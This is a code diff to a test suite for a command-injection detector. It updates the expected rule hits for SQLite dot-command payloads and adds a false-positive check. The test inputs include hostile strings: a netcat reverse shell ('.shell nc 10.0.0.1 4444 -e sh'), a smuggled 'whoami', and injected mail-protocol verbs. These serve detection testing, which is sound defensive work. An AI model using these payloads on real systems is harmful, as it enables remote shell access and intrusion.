@@ -161,9 +161,10 @@ describe("cmdiDetector: attacks", () => {
     expect(rulesAt("cscli alerts list")).toEqual([]);
     expect(rulesAt("cscli alerts list", 2)).toContain("cmdi-command-word");
     expect(rulesAt("x ;top something", 2)).toContain("cmdi-command-word");
-    expect(rulesAt(";\\n.shell nc 10.0.0.1 4444 -e sh")).toEqual([]);
-    expect(rulesAt(";\\n.shell nc 10.0.0.1 4444 -e sh", 2)).toContain("cmdi-sqlite-dot");
-    expect(rulesAt("1;.sh whoami", 2)).toContain("cmdi-sqlite-dot");
+    // SQLite shell dot commands block at PL1: `;` then `.shell` is no sentence.
+    expect(rulesAt(";\\n.shell nc 10.0.0.1 4444 -e sh")).toContain("cmdi-sqlite-dot");
+    expect(rulesAt("1;.sh whoami")).toContain("cmdi-sqlite-dot");
+    expect(rulesAt("see the file; .shellrc is read first")).not.toContain("cmdi-sqlite-dot");
     expect(rulesAt("\r\na001 EXAMINE INBOX")).toEqual([]);
     expect(rulesAt("\r\na001 EXAMINE INBOX", 2)).toContain("cmdi-mail-verb");
     expect(rulesAt("x\r\nRETR 123", 2)).toContain("cmdi-mail-verb");
